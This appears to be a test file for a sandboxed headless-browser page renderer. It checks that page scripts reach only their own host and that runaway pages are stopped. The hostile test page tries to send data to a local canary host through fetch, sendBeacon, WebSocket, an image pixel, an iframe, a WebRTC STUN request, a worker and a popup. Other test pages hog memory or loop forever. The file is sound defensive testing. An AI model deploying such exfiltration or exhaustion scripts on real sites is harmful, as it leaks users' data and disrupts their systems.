// A page made by scripts is rendered without a network: only parts of its host, through the fetcher of the caller.
import { createSocket } from 'node:dgram'
import { readdir, readFile } from 'node:fs/promises'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { findChromium } from '@cowrie/testkit/harness/chromium.ts'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { fetchPage, fetchPagePart } from '../web.ts'
import { type RenderLimits, renderPage } from './render-page.ts'

const hits: string[] = []
let site: Server
let other: Server
let origin: string
let canary: string
const datagrams = createSocket('udp4')
const listen = async (server: Server) => {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return `127.0.0.1:${(server.address() as AddressInfo).port}`
}

beforeAll(async () => {
  other = createServer((request, response) => {
    hits.push(`canary ${request.url}`)
    response.setHeader('access-control-allow-origin', '*')
    response.end('{}')
  })
  canary = await listen(other)
  datagrams.on('message', () => hits.push('canary datagram'))
  await new Promise<void>((resolve) => datagrams.bind(0, '127.0.0.1', resolve))
  const stun = `127.0.0.1:${datagrams.address().port}`
  site = createServer(({ url = '' }, response) => {
    hits.push(url)
    const files: Record<string, [type: string, text: string]> = {
      '/': [
        'text/html',
        '<!doctype html><title>Shop</title><div id="app"></div><script src="/app.js"></script>',
      ],
      '/app.js': ['application/javascript', SCRIPT.replaceAll('CANARY', canary).replace('STUN', stun)],
      '/data.json': [
        'application/json',
        '{"text": "The shop at Makoro opens at 09:30 and sells 14 kinds of rice."}',
      ],
      '/hog': [
        'text/html',
        '<!doctype html><script>for (const all = []; ; ) all.push(new Uint8Array(8e6).fill(1))</script>',
      ],
      '/never-done': [
        'text/html',
        '<!doctype html><p>Berth 15 opens in June.</p><script>setInterval(() => fetch("/data.json"), 50)</script>',
      ],
      '/endless': ['text/html', '<!doctype html><script>for (;;) {}</script>'],
    }
    const file = files[url]
    response.writeHead(file ? 200 : 404, { 'content-type': file?.[0] ?? 'text/plain' })
    response.end(file?.[1] ?? '')
  })
  origin = await listen(site)
})
afterAll(() => {
  site.close()
  other.close()
  datagrams.close()
})

const SCRIPT = `
  const quiet = (work) => { try { return Promise.resolve(work()).catch(() => {}) } catch { return null } }
  quiet(() => fetch('http://CANARY/leak'))
  quiet(() => navigator.sendBeacon('http://CANARY/beacon', 'x'))
  quiet(() => new WebSocket('ws://CANARY/socket'))
  quiet(() => { new Image().src = 'http://CANARY/pixel' })
  quiet(() => { const frame = document.createElement('iframe'); frame.src = 'http://CANARY/frame'; document.body.append(frame) })
  quiet(() => fetch('/post', { method: 'POST', body: 'x' }))
  quiet(async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:STUN' }] })
    peer.createDataChannel('x')
    await peer.setLocalDescription(await peer.createOffer())
  })
  quiet(() => new Worker(URL.createObjectURL(new Blob(["fetch('http://CANARY/worker')"]))))
  quiet(() => { document.cookie = 'seen=1' })
  quiet(() => window.open('http://CANARY/popup'))
  fetch('/data.json').then((reply) => reply.json()).then(({ text }) => {
    document.getElementById('app').innerHTML = '<p>' + text + '</p>'
  })`

const QUICK: RenderLimits = { ms: 6_000, loadMs: 2_500, memoryBytes: 1024 ** 3 }

async function render(path: string, limits?: RenderLimits): Promise<string> {
  const rules = { allow: [origin, canary], userAgent: 'CowrieTest/1.0' }
  const { signal } = new AbortController()
  const page = await fetchPage(`http://${origin}${path}`, rules, signal)
  return renderPage({
    ...{ page, executable: findChromium(), signal, isSandboxed: process.getuid?.() !== 0 },
    fetchPart: (url, aborted) => fetchPagePart(url, rules, aborted),
    ...(limits && { limits }),
  })
}

/** The command lines of browsers for pages. */
async function browsers(): Promise<string[]> {
  const pids = (await readdir('/proc')).filter((name) => /^\d+$/.test(name))
  const commands = await Promise.all(
    pids.map((pid) => readFile(`/proc/${pid}/cmdline`, 'utf8').catch(() => '')),
  )
  return commands.filter((command) => command.includes('cowrie-page-'))
}

test('scripts of the page run with data of its host, and reach no other host', async () => {
  const html = await render('/')
  expect(html).toContain('The shop at Makoro opens at 09:30 and sells 14 kinds of rice.')
  expect(hits).toContain('/data.json')
  expect(hits).not.toContain('/post')
  expect(hits.filter((hit) => hit.startsWith('canary'))).toEqual([])
})

test('a page that keeps loading is taken as it is', async () => {
  expect(await render('/never-done', QUICK)).toContain('Berth 15 opens in June.')
})

test('a script that never ends, or takes too much memory, ends with its browser', async () => {
  await expect(render('/endless', { ...QUICK, ms: 3_000 })).rejects.toThrow('timeout')
  const limits = { ...QUICK, ms: 30_000, memoryBytes: 400 * 1024 ** 2 }
  await expect(render('/hog', limits)).rejects.toThrow('the browser has ended')
  await expect.poll(() => browsers()).toEqual([])
})
